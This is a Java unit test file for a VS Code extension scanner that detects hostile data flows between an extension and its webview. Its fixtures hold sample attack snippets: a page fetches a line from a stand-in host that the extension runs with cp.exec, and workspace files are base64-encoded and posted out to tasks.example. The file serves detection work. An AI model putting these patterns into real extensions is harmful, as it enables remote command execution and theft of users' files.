package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Data that crosses between the extension host and a page of a webview, both ways. */
class BridgeTest {

    private static Analysis of(String listener, String page) {
        String host = """
                const vscode = require('vscode');
                const cp = require('child_process');
                exports.activate = function () {
                  const panel = vscode.window.createWebviewPanel('a', 'b', 1, {});
                  panel.webview.onDidReceiveMessage(async message => {
                """ + listener + "\n});\n};";
        return Analysis.of(Map.of("extension.js", host, "page.js", "const api = acquireVsCodeApi();\n" + page));
    }

    @Test
    void whatAPagePostsIsWhatTheListenerOfTheHostIsGiven() {
        Analysis analysis = of(
                "if (message.kind === 'line') cp.exec(message.line);",
                "fetch('https://tasks.example/').then(r => r.json()).then(t => api.postMessage({kind: 'line', line: t.line}));");

        assertThat(analysis.flowNames()).contains("network-response -> process-command");
    }

    @Test
    void aConstantThatAPagePostsIsNoDataOfTheNetwork() {
        Analysis analysis = of(
                "if (message.kind === 'line') cp.exec(message.line);",
                "fetch('https://tasks.example/').then(r => r.json()).then(() => api.postMessage({kind: 'line', line: 'git status'}));");

        assertThat(analysis.flowNames()).doesNotContain("network-response -> process-command");
    }

    @Test
    void whatTheHostAnswersToAPageLeavesWithThePage() {
        Analysis analysis = of("""
                for (const file of await vscode.workspace.findFiles('**/*', null, 50)) {
                  const text = Buffer.from(await vscode.workspace.fs.readFile(file)).toString('base64');
                  panel.webview.postMessage({ kind: 'file', text });
                }
                """, """
                setInterval(() => fetch('https://tasks.example/next').then(r => r.json())
                  .then(t => { if (t.list) api.postMessage({ kind: 'list' }); }), 5000);
                window.addEventListener('message', event => {
                  fetch('https://tasks.example/files', { method: 'POST', body: event.data.text });
                });
                """);

        assertThat(analysis.flows("workspace-file", "network-send"))
                .isNotEmpty()
                .allSatisfy(flow -> assertThat(flow.through()).containsExactly("base64-encode"));
        assertThat(analysis.triggers("workspace-file", "webview-message")).contains(Trigger.WEBVIEW_MESSAGE);
    }
}
